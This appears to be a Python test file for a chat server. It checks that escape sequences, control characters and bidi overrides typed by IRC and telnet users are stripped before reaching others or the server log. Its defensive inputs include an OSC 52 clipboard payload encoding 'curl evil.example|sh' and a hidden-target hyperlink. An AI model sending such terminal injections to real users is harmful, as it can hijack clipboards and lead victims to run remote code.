"""Nothing anyone types reaches another person's terminal raw (issue 10 item 4).

Escape sequences (OSC 52 writes the victim's clipboard, CSI clears the screen),
C1 controls and bidi overrides, sent by IRC and text users in every field other
people see, over real sockets. Telnet users get plain text; IRC users keep IRC
formatting (bold, colour) and nothing else.
"""

from __future__ import annotations

import asyncio
import re
import signal

from chinwag.core.events import Message
from chinwag.transport.server import Server
from tests.conftest import IrcClient, LineClient
from tests.hostile.bystander import Bystander
from tests.hostile.test_hostile import irc_client, serving, text_client
from tests.test_cli import start
from tests.unsafe import terminal_violations, text_violations

OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07"  # "set the clipboard to: curl evil.example|sh"
CSI = "\x1b[2J\x1b[31m"  # clear the screen, then red
NOT_ALLOWED = "no control or invisible formatting characters"


def same(line: str, expected: str) -> None:
    assert line == expected, f"got {line!r}, expected {expected!r}"


def assert_all_clean(text_users: list[LineClient], irc_users: list[IrcClient]) -> None:
    """Every line each of them received, not only the ones the test looked at."""
    for t in text_users:
        assert [s for s in t.seen if text_violations(s)] == []
    for i in irc_users:
        assert [s for s in i.seen if terminal_violations(s)] == []


async def irc_in(srv: Server, nick: str, room: str = "#lobby", caps: tuple[str, ...] = ()) -> IrcClient:
    c = await irc_client(srv, nick) if not caps else await _irc_with_caps(srv, nick, caps)
    await c.send(f"JOIN {room}")
    await c.expect_cmd("366")
    return c


async def _irc_with_caps(srv: Server, nick: str, caps: tuple[str, ...]) -> IrcClient:
    r, w = await asyncio.open_connection("127.0.0.1", srv.port("irc"))
    c = IrcClient(r, w)
    await c.register(nick, caps)
    return c


async def test_part_and_quit_reasons_reach_telnet_and_irc_users_clean() -> None:
    async with serving() as srv:
        b = await Bystander.join(srv.port("irc"))
        b.start()
        tv = await text_client(srv, "tv")
        iv = await irc_in(srv, "iv")
        ievil = await irc_in(srv, "ievil")
        tevil = await text_client(srv, "tevil")

        await ievil.send(f"PART #lobby :see{OSC52} you{CSI} \x02later\x02")
        same(await tv.expect("ievil has left #lobby"), "* ievil has left #lobby (see you later)")
        same(await iv.expect_cmd("PART"), ":ievil!~ievil@chinwag PART #lobby :see you \x02later\x02")
        await ievil.send("JOIN #lobby")
        await iv.expect_cmd("JOIN")
        await ievil.send(f"QUIT :gone{OSC52} \x9b2Jfishing{CSI}\u202e")
        same(await tv.expect("ievil has left ("), "* ievil has left (gone fishing)")
        same(await iv.expect_cmd("QUIT"), ":ievil!~ievil@chinwag QUIT :gone fishing")

        await tevil.send(f"/part #lobby see{OSC52} you{CSI} later")
        same(await tv.expect("tevil has left #lobby"), "* tevil has left #lobby (see you later)")
        same(await iv.expect_cmd("PART"), ":tevil!~tevil@chinwag PART #lobby :see you later")
        await tevil.send("/join #lobby")
        await iv.expect_cmd("JOIN")
        await tevil.send(f"/quit gone{OSC52} fishing{CSI}")
        same(await tv.expect("tevil has left ("), "* tevil has left (gone fishing)")
        same(await iv.expect_cmd("QUIT"), ":tevil!~tevil@chinwag QUIT :gone fishing")

        rtt = await b.stop()
        rtt.assert_served()
        assert_all_clean([tv], [iv])
        for c in (tv, iv, ievil, tevil, b):
            await c.close()


async def test_mode_key_and_ban_arguments_reach_members_clean() -> None:
    async with serving() as srv:
        b = await Bystander.join(srv.port("irc"))
        b.start()
        op = await irc_in(srv, "op", "#den")
        tv = await text_client(srv, "tv")
        await tv.send("/join #den")
        await tv.expect("* in #den")
        iv = await irc_in(srv, "iv", "#den")

        await op.send(f"MODE #den +k se{OSC52}cret")
        same(await tv.expect("sets mode"), "* op sets mode +k secret on #den")
        same(await iv.expect_cmd("MODE"), ":op!~op@chinwag MODE #den +k secret")
        await op.send("MODE #den +b bad\u202e\x85guy\x7f\x1bc!*@*")  # ESC c: reset the terminal
        same(await tv.expect("sets mode +b"), "* op sets mode +b badguy!*@* on #den")
        same(await iv.expect_cmd("MODE"), ":op!~op@chinwag MODE #den +b badguy!*@*")
        await op.send("MODE #den +b")
        assert (await op.expect_cmd("367")).startswith(":chinwag 367 op #den badguy!*@* op ")
        await op.send("MODE #den")
        line = await op.expect_cmd("324")
        assert line == ":chinwag 324 op #den +ntk secret", line

        rtt = await b.stop()
        rtt.assert_served()
        assert_all_clean([tv], [iv, op])
        for c in (tv, iv, op, b):
            await c.close()


async def test_room_names_with_controls_or_bidi_are_refused_with_the_reason() -> None:
    async with serving() as srv:
        b = await Bystander.join(srv.port("irc"))
        b.start()
        tv = await text_client(srv, "tv")
        evil = await irc_client(srv, "evil")
        await evil.send("JOIN #\u202egnp")
        same(
            await evil.expect_cmd("479"),
            f":chinwag 479 evil #gnp :invalid room name: {NOT_ALLOWED} (found U+202E RIGHT-TO-LEFT OVERRIDE)",
        )
        await evil.send("JOIN #\u009b2J")
        same(
            await evil.expect_cmd("479"),
            f":chinwag 479 evil # :invalid room name: {NOT_ALLOWED} (found U+009B a control character)",
        )
        await evil.send("JOIN #ok\u2066,#x\u200fy")
        assert (await evil.expect_cmd("479")).endswith("(found U+2066 LEFT-TO-RIGHT ISOLATE)")
        assert (await evil.expect_cmd("479")).endswith("(found U+200F RIGHT-TO-LEFT MARK)")
        await evil.send("INVITE tv #\u202egnp")
        same(await evil.expect_cmd("403"), ":chinwag 403 evil #gnp :no such room")
        await tv.send("/rooms")
        same(await tv.expect("* rooms:"), "* rooms: #lobby (1)")  # (evil never joined a room)

        rtt = await b.stop()
        rtt.assert_served()
        assert_all_clean([tv], [evil])
        for c in (tv, evil, b):
            await c.close()


async def test_nicks_with_bidi_or_format_characters_are_refused_with_the_reason() -> None:
    async with serving() as srv:
        b = await Bystander.join(srv.port("irc"))
        b.start()
        tv = await text_client(srv, "tv")
        r, w = await asyncio.open_connection("127.0.0.1", srv.port("irc"))
        evil = IrcClient(r, w)
        await evil.send("NICK \u202elive", "USER e 0 * :e")
        same(
            await evil.expect_cmd("432"),
            f":chinwag 432 * live :invalid name: {NOT_ALLOWED} (found U+202E RIGHT-TO-LEFT OVERRIDE)",
        )
        await evil.send("NICK e\u200bvil")
        same(
            await evil.expect_cmd("432"),
            # (a zero-width space is harmless in a terminal: only names refuse it)
            f":chinwag 432 * e\u200bvil :invalid name: {NOT_ALLOWED} (found U+200B ZERO WIDTH SPACE)",
        )
        await evil.send("NICK evil")
        await evil.expect_cmd("001")
        await evil.send("JOIN #lobby")
        await evil.expect_cmd("366")
        await evil.send("NICK b\u2066ob\u2069")
        same(
            await evil.expect_cmd("432"),
            f":chinwag 432 evil bob :invalid name: {NOT_ALLOWED} (found U+2066 LEFT-TO-RIGHT ISOLATE)",
        )
        await evil.send("NICK tab\x1b[2J")
        assert (await evil.expect_cmd("432")).endswith("(found U+001B a control character)")
        await tv.send("/who")
        same(await tv.expect("* in #lobby"), "* in #lobby: tv, evil (2)")

        rtt = await b.stop()
        rtt.assert_served()
        assert not any("known as" in s for s in tv.seen)
        assert_all_clean([tv], [evil])
        for c in (tv, evil, b):
            await c.close()


async def test_ansi_from_irc_never_reaches_another_irc_client_while_bold_does() -> None:
    async with serving() as srv:
        b = await Bystander.join(srv.port("irc"))
        b.start()
        tv = await text_client(srv, "tv")
        iv = await irc_in(srv, "iv")
        evil = await irc_in(srv, "evil")
        link = "\x1b]8;;http://evil.example/\x07link\x1b]8;;\x07"  # OSC 8: a hyperlink that hides its target
        await evil.send(f"PRIVMSG #lobby :\x02bold\x02 \x1b[31mred\x1b[0m \x0304colour\x03 {link} \u202eesrever{OSC52}")
        same(
            await iv.expect_cmd("PRIVMSG"),
            ":evil!~evil@chinwag PRIVMSG #lobby :\x02bold\x02 red \x0304colour\x03 link esrever",
        )
        assert re.fullmatch(r"\[\d\d:\d\d\] evil: bold red colour link esrever", await tv.expect("evil:"))
        await evil.send(f"PRIVMSG iv :\x1dpsst\x1d{CSI}")
        same(await iv.expect_cmd("PRIVMSG"), ":evil!~evil@chinwag PRIVMSG iv :\x1dpsst\x1d")
        await evil.send("NOTICE #lobby :\x1fnote\x1f\x1bP+q\x1b\\")
        same(await iv.expect_cmd("NOTICE"), ":evil!~evil@chinwag NOTICE #lobby :\x1fnote\x1f")
        assert (await tv.expect("-evil-")).endswith("] -evil- note")

        rtt = await b.stop()
        rtt.assert_served()
        assert_all_clean([tv], [iv])
        for c in (tv, iv, evil, b):
            await c.close()


async def test_topic_kick_away_whois_and_echoed_replies_reach_users_clean() -> None:
    async with serving() as srv:
        b = await Bystander.join(srv.port("irc"))
        b.start()
        tv = await text_client(srv, "tv")
        iv = await irc_in(srv, "iv", caps=("away-notify",))
        r, w = await asyncio.open_connection("127.0.0.1", srv.port("irc"))
        evil = IrcClient(r, w)
        await evil.send("NICK evil", f"USER evil 0 * :Real{OSC52} Name{CSI}")
        await evil.expect_cmd("422")
        await evil.send("JOIN #den")  # evil creates #den, so it is its operator
        await evil.expect_cmd("366")
        await tv.send("/join #den")
        await tv.expect("* in #den")
        await iv.send("JOIN #den")
        await iv.expect_cmd("366")

        await evil.send(f"TOPIC #den :new{CSI} \x02topic\x02{OSC52}")
        same(await tv.expect("set the topic"), "* evil set the topic of #den to: new topic")
        same(await iv.expect_cmd("TOPIC"), ":evil!~evil@chinwag TOPIC #den :new \x02topic\x02")
        await evil.send(f"AWAY :lunch{OSC52}\u202e")
        same(await iv.expect_cmd("AWAY"), ":evil!~evil@chinwag AWAY lunch")
        await tv.send("/msg evil hello")
        same(await tv.expect("is away"), "* evil is away: lunch")
        await iv.send("WHOIS evil")
        same(await iv.expect_cmd("311"), ":chinwag 311 iv evil ~evil chinwag * :Real Name")
        await evil.send(f"KICK #den iv :bye{CSI}{OSC52}\x9d0;t\x07")
        same(await tv.expect("was kicked"), "* iv was kicked from #den by evil (bye)")
        same(await iv.expect_cmd("KICK"), ":evil!~evil@chinwag KICK #den iv bye")
        # Replies that echo what was typed, to the one who typed it.
        await iv.send(f"PRIVMSG nobody{CSI} :hi")
        same(await iv.expect_cmd("401"), ":chinwag 401 iv nobody :no such nick")
        await iv.send("MODE #lobby +\x9b")
        same(await iv.expect_cmd("472"), ":chinwag 472 iv :is an unknown mode character")
        await iv.send(f"CHATHISTORY LATEST #lobby msgid={CSI} 5")  # a reply line the adapter writes itself
        same(
            await iv.expect_cmd("FAIL"),
            ":chinwag FAIL CHATHISTORY INVALID_PARAMS LATEST msgid=[2J[31m :Invalid message reference",
        )

        rtt = await b.stop()
        rtt.assert_served()
        assert_all_clean([tv], [iv])
        for c in (tv, iv, evil, b):
            await c.close()


async def test_history_from_the_store_is_cleaned_on_the_way_out() -> None:
    """A store written before this fix (or by another tool) may hold escapes."""
    async with serving() as srv:
        b = await Bystander.join(srv.port("irc"))
        b.start()
        store, hub = srv.store, srv.hub
        confirm, store.on_commit = store.on_commit, None  # not a live message: nobody waits for it
        ts = hub.clock()
        store.append(Message(hub.ids.next(ts), ts, f"ol{CSI}d", "#lobby", f"stored{OSC52} \x02raw\x02", "privmsg"))
        await store.flush()
        store.on_commit = confirm

        tv = await text_client(srv, "tv")  # history on join
        await tv.expect("old")
        assert re.fullmatch(r"\[\d\d:\d\d\] old: stored raw", tv.seen[-1])
        await tv.send("/history")
        await tv.expect("--- history of #lobby ---")
        assert re.fullmatch(r"\[\d\d:\d\d\] old: stored raw", await tv.expect("old"))
        iv = await irc_in(srv, "iv", caps=("batch", "server-time", "message-tags", "draft/chathistory"))
        await iv.send("CHATHISTORY LATEST #lobby * 10")
        line = await iv.expect_cmd("PRIVMSG")
        assert re.fullmatch(r"@batch=\w+;time=\S+;msgid=[0-9a-f]+ :old!~old@chinwag PRIVMSG #lobby :stored \x02raw\x02",
                            line), line

        rtt = await b.stop()
        rtt.assert_served()
        assert_all_clean([tv], [iv])
        for c in (tv, iv, b):
            await c.close()


async def test_the_server_log_carries_no_escape_sequence_to_the_operators_terminal() -> None:
    """Part and quit reasons are logged at INFO: the person reading the log is a terminal too."""
    proc, _ = await start("--db", ":memory:")
    try:
        assert proc.stderr is not None
        log: list[str] = []

        async def log_line(fragment: str) -> str:
            while True:
                raw = await asyncio.wait_for(proc.stderr.readline(), 10)
                assert raw, "the server exited"
                log.append(raw.decode())
                if fragment in log[-1]:
                    return log[-1].rstrip("\n")

        port = int((await log_line("irc listener on")).rsplit(":", 1)[1])
        b = await Bystander.join(port)
        b.start()
        r, w = await asyncio.open_connection("127.0.0.1", port)
        evil = IrcClient(r, w)
        await evil.register("evil")
        await evil.send("JOIN #lobby")
        await evil.expect_cmd("366")
        await evil.send(f"PART #lobby :see{OSC52} you{CSI} later\u202e")
        # What is left of a sequence is inert text: the log shows someone tried.
        assert (await log_line("evil left #lobby")).endswith(
            ": evil left #lobby (see]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g= you[2J[31m later)"
        )
        await evil.send(f"QUIT :gone{OSC52}\x9b2J")
        assert (await log_line("evil left (")).endswith(
            "chinwag.server: evil left (gone]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=2J)"
        )
        rtt = await b.stop()
        rtt.assert_served()
        assert [line for line in log if terminal_violations(line.rstrip("\n"))] == []
        await evil.close()
        await b.close()
    finally:
        proc.send_signal(signal.SIGTERM)
        assert await proc.wait() == 0
